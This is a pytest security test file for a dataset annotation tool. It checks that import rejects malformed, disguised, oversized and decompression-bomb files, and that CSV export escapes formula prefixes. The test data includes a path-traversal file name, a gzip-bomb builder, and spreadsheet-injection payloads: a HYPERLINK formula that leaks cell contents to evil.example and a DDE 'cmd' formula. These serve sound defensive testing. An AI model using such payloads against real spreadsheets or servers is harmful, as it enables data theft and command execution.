"""Hostile import files: each is refused with a precise error, in bounded memory, leaving the project unchanged.

Also: texts round-trip byte-exact through import and export, and CSV exports escape formula prefixes.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from annotate.export.writers import export_dataset
from annotate.models import Completion, Prompt, User
from annotate.services.importing import import_file
from prefloop.core.errors import ImportDataError
from tests.factories import make_project, make_user
from tests.security.conftest import changed_tables, db_fingerprint

pytestmark = pytest.mark.django_db


def prompts_line(i: int, **override) -> str:
    row = {
        "prompt": f"question {i}",
        "completions": [{"text": f"answer {i} a", "model": "m1"}, {"text": f"answer {i} b", "model": "m2"}],
    }
    return json.dumps({**row, **override}) + "\n"


def refused(project, path: Path, **kwargs) -> str:
    """Import `path`; it must fail with ImportDataError and change nothing. Returns the message."""
    before = db_fingerprint()
    with pytest.raises(ImportDataError) as caught:
        import_file(project=project, path=path, **kwargs)
    after = db_fingerprint()
    assert after == before, f"the refused import changed {changed_tables(before, after)}"
    return str(caught.value)


@pytest.fixture
def project():
    return make_project(name="imports under attack")


# --- malformed rows, wrong types, size ------------------------------------------------------------
def test_a_bad_row_at_line_50000_of_60000_names_file_line_and_field_and_writes_nothing(project, tmp_path):
    path = tmp_path / "big.jsonl"
    with open(path, "w", encoding="utf-8") as out:
        for i in range(1, 60_001):
            out.write(prompts_line(i, prompt=12345) if i == 50_000 else prompts_line(i))
    message = refused(project, path)
    assert "big.jsonl:50000: field 'prompt': must be a string, not int" in message
    assert Prompt.objects.filter(project=project).count() == 0


def test_the_api_reports_a_deep_bad_row_with_line_and_field_and_writes_nothing(api, project):
    researcher = make_user(role=User.Role.RESEARCHER)
    from annotate.services.projects import membership_set

    membership_set(project=project, user=researcher, role="researcher")
    lines = [prompts_line(i) for i in range(1, 5001)]
    lines[4321] = prompts_line(4322, completions=[{"text": "fine", "model": "m1"}, {"text": "\ud800", "model": "m2"}])
    upload = io.BytesIO("".join(lines).encode("utf-8"))
    upload.name = "../../etc/passwd"  # a client-chosen name is never a path on the server
    before = db_fingerprint()
    response = api(researcher).post(f"/api/projects/{project.pk}/imports/", {"file": upload}, format="multipart")
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["error"] == "import_error"
    assert any(":4322: field 'text': contains a lone surrogate (U+D800)" in p for p in body["problems"]), body
    assert all("/" not in p.split(":")[0] for p in body["problems"]), "the stored name has no path in it"
    assert db_fingerprint() == before


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + os.urandom(2000)


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("data.jsonl", prompts_line(1) * 10)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "name, content, expected",
    [
        ("photo.jsonl", _png(), "this is a PNG image"),
        ("archive.jsonl", _zip(), "this is a zip archive"),
        ("garbage.csv", b"prompt,completion\n" + bytes(range(128, 256)) * 8, "not valid UTF-8"),
        ("nul.csv", b"prompt,completion\nhello\x00there,answer\n", "binary data (NUL bytes)"),
        ("fake.parquet", b"PAR1 this is not parquet at all" * 20, "not a readable Parquet file"),
        ("data.jsonl.zst", b"\x28\xb5\x2f\xfd" + os.urandom(100), "zstd files are not accepted"),
        ("data.zip", _zip(), "zip files are not accepted"),
        ("data.jsonl.bz2", b"BZh91AY&SY" + os.urandom(50), "bzip2 files are not accepted"),
        ("hidden-gzip.jsonl", gzip.compress(prompts_line(1).encode()), "gzip-compressed data (name it .gz)"),
        ("broken.jsonl.gz", b"\x1f\x8b\x08\x00broken", "not readable as gzip"),
        ("deep.jsonl", b"[" * 200_000 + b"\n", "the first line is not a JSON object"),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 40 else "",  # stable across xdist workers
)
def test_files_of_the_wrong_type_are_refused_by_what_they_are(project, tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content)
    message = refused(project, path)
    assert expected in message, message
    assert message.startswith(name.split("/")[-1])


def test_json_nested_too_deeply_is_an_error_on_its_line_not_a_crash(project, tmp_path):
    path = tmp_path / "nested.jsonl"
    path.write_text(
        prompts_line(1)
        + prompts_line(2, metadata={"x": 1}).replace('{"x": 1}', '{"x": ' + "[" * 100_000 + "]" * 100_000 + "}")
    )
    message = refused(project, path, format="prompts-jsonl")
    assert "nested.jsonl:2: invalid JSON: nested too deeply" in message


def test_a_file_over_the_import_limit_is_refused_before_it_is_read(project, tmp_path, settings):
    settings.PREFLOOP_MAX_IMPORT_BYTES = 10 * 1024 * 1024
    path = tmp_path / "huge.jsonl"
    with open(path, "wb") as out:  # sparse: 20 GB on paper; reading it would take minutes and fail on NULs
        out.truncate(20 * 1024**3)
    message = refused(project, path)
    assert "larger than the import limit of 10485760 bytes" in message
    assert "PREFLOOP_MAX_IMPORT_BYTES" in message


def test_an_upload_over_the_limit_is_refused_from_its_declared_length(api, project, settings):
    settings.PREFLOOP_MAX_UPLOAD_BYTES = 100 * 1024
    researcher = make_user(role=User.Role.RESEARCHER)
    from annotate.services.projects import membership_set

    membership_set(project=project, user=researcher, role="researcher")
    upload = io.BytesIO(prompts_line(1).encode() * 5000)
    upload.name = "big.jsonl"
    before = db_fingerprint()
    response = api(researcher).post(f"/api/projects/{project.pk}/imports/", {"file": upload}, format="multipart")
    assert response.status_code == 400
    assert response.json()["field"] == "file"
    assert "larger than 102400 bytes" in response.json()["detail"]
    assert db_fingerprint() == before


def _bomb(path: Path, expanded_bytes: int, unit: bytes) -> None:
    chunk = unit * (1024 * 1024 // len(unit))
    with gzip.open(path, "wb", compresslevel=9) as out:
        for _ in range(expanded_bytes // len(chunk)):
            out.write(chunk)


@pytest.mark.parametrize(
    "unit, expected, ratio",
    # valid rows (one 200 kB prompt, repeated), one line with no end, nothing but newlines
    [
        (prompts_line(1, prompt="x" * 200_000).encode(), "exceeds", 500),
        (b"a" * 64, "exceeds", 1000),
        (b"\n", "blank lines", 1000),
    ],
    ids=["valid-rows-repeated", "one-endless-line", "only-empty-lines"],
)
def test_a_gzip_bomb_is_refused_with_bounded_memory(project, tmp_path, unit, expected, ratio):
    path = tmp_path / "bomb.jsonl.gz"
    _bomb(path, 300 * 1024 * 1024, unit)
    assert path.stat().st_size * ratio < 300 * 1024 * 1024, f"a bomb: it expands more than {ratio}x"
    tracemalloc.start()
    try:
        message = refused(project, path, format="prompts-jsonl")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "bomb.jsonl.gz" in message
    assert expected in message, message
    # Python allocations stay near the 64 MiB line cap, far below the 300 MiB the file expands to.
    assert peak < 160 * 1024 * 1024, f"peak {peak / 2**20:.0f} MiB"


def test_nul_and_lone_surrogates_are_refused_naming_line_and_field(project, tmp_path):
    path = tmp_path / "text.jsonl"
    lines = [prompts_line(i) for i in range(1, 8)]
    lines[1] = prompts_line(2, prompt="null \u0000 byte")
    lines[3] = prompts_line(4, completions=[{"text": "ok", "model": "m\udfff"}, {"text": "b", "model": "m2"}])
    lines[4] = prompts_line(5, metadata={"source": "x\u0000y"})
    lines[5] = prompts_line(6, id="id-\ud83d")
    path.write_text("".join(lines), encoding="utf-8", errors="surrogatepass")
    message = refused(project, path)
    assert "text.jsonl:2: field 'prompt': contains a NUL character" in message
    assert "text.jsonl:4: field 'model': contains a lone surrogate (U+DFFF)" in message
    assert "text.jsonl:5: field 'metadata': contains a NUL character" in message
    assert "text.jsonl:6: field 'id': contains a lone surrogate (U+D83D)" in message


def test_encoded_surrogates_in_utf8_are_refused_as_invalid_utf8(project, tmp_path):
    path = tmp_path / "cesu.jsonl"
    path.write_bytes(
        prompts_line(1).encode() + b'{"prompt": "\xed\xa0\x80", "completions": [{"text": "a"}, {"text": "b"}]}\n'
    )
    assert "cesu.jsonl:2: not valid UTF-8 (invalid continuation byte at byte 12)" in refused(
        project, path, format="prompts-jsonl"
    )


# --- round trips ----------------------------------------------------------------------------------
HARD_TEXTS = {
    "emoji": "Family: 👩‍👩‍👧‍👦, flags 🇫🇷🇯🇵, skin tones 👋🏽 and a 4-byte 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "rtl": "\u202bRTL embedding\u202c and a mark \u200f שלום עולם \u200e مرحبا",
    "crlf": "line one\r\nline two\r\n\r\nline four with a lone CR\rend",
    "combining": "e\u0301 vs \u00e9, Z\u0351\u0325\u0353a\u0308\u0301lgo, Hangul \u1100\u1161 vs \uac00",
    "big": ("0123456789abcdef" * 65536)[:1_048_576],  # one 1 MiB line
}


def test_texts_round_trip_byte_exact_through_import_and_export(project, tmp_path):
    path = tmp_path / "hard.jsonl"
    with open(path, "w", encoding="utf-8", newline="") as out:
        for name, text in HARD_TEXTS.items():
            row = {
                "id": name,
                "prompt": f"[{name}] {text}",
                "response_a": f"A {text}",
                "response_b": f"B {text}",
                "model_a": "m1",
                "model_b": "m2",
                "winner": "a",
                "rationale": f"why: {text}",
            }
            out.write(json.dumps(row, ensure_ascii=False) + "\n")
    import_file(project=project, path=path)
    for name, text in HARD_TEXTS.items():
        prompt = Prompt.objects.get(project=project, key=f"id:{name}")
        assert prompt.text.encode("utf-8") == f"[{name}] {text}".encode()
    result = export_dataset(project=project, out=tmp_path / "out.jsonl", format="jsonl")
    rows = [json.loads(line) for line in result.path.read_text(encoding="utf-8").splitlines()]
    by_prompt = {row["prompt"]: row for row in rows}
    for name, text in HARD_TEXTS.items():
        row = by_prompt[f"[{name}] {text}"]
        assert row["chosen"].encode("utf-8") == f"A {text}".encode()
        assert row["rejected"].encode("utf-8") == f"B {text}".encode()
        assert row["rationales"] == [f"why: {text}"]
    # Parquet keeps them too.
    import pyarrow.parquet as pq

    table = pq.read_table(export_dataset(project=project, out=tmp_path / "out.parquet", format="parquet").path)
    assert sorted(table.column("chosen").to_pylist()) == sorted(f"A {t}" for t in HARD_TEXTS.values())


def test_csv_import_keeps_crlf_and_quotes_inside_fields(project, tmp_path):
    path = tmp_path / "crlf.csv"
    text = 'He said "hi",\r\nthen left.\r\n\u200fשלום 👋🏽'
    with open(path, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, lineterminator="\r\n")
        writer.writerow(["prompt", "completion", "model"])
        writer.writerow([text, text + " (a)", "m1"])
        writer.writerow([text, text + " (b)", "m2"])
    import_file(project=project, path=path)
    assert Prompt.objects.get(project=project).text == text
    assert sorted(Completion.objects.filter(prompt__project=project).values_list("text", flat=True)) == [
        text + " (a)",
        text + " (b)",
    ]


# --- CSV export: formula injection ----------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]


def test_csv_export_escapes_formula_prefixes(api, project, tmp_path):
    path = tmp_path / "formulas.jsonl"
    with open(path, "w", encoding="utf-8") as out:
        for i, formula in enumerate(FORMULAS):
            out.write(
                json.dumps(
                    {
                        "id": i,
                        "prompt": formula,
                        "response_a": f"{formula} a",
                        "response_b": "=1+2",
                        "model_a": "=cmd|' /C calc'!A0",
                        "model_b": "safe",
                        "winner": "a",
                        "rationale": "-bad",
                    }
                )
                + "\n"
            )
    import_file(project=project, path=path)
    researcher = make_user(role=User.Role.RESEARCHER)
    from annotate.services.projects import membership_set

    membership_set(project=project, user=researcher, role="researcher")
    response = api(researcher).get(f"/api/projects/{project.pk}/export/?format=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{column}={cell!r} would run as a formula"
    prompts = sorted(row["prompt"] for row in rows)
    assert prompts == sorted("'" + f for f in FORMULAS)
    assert all(row["response_b"] == "'=1+2" for row in rows)
    assert all(json.loads(row["provenance_a"])["model"] == "=cmd|' /C calc'!A0" for row in rows)  # inside JSON: inert
    assert all(row["votes"] == "1" for row in rows)


def test_csv_export_leaves_numbers_alone_and_parses_back(project, tmp_path):
    from annotate.export.writers import csv_cell

    assert csv_cell(-0.5) == -0.5
    assert csv_cell(3) == 3
    assert csv_cell(None) == ""
    assert csv_cell("-0.5") == "'-0.5"
    assert csv_cell(["=x"]) == '["=x"]'
    assert csv_cell("plain text") == "plain text"
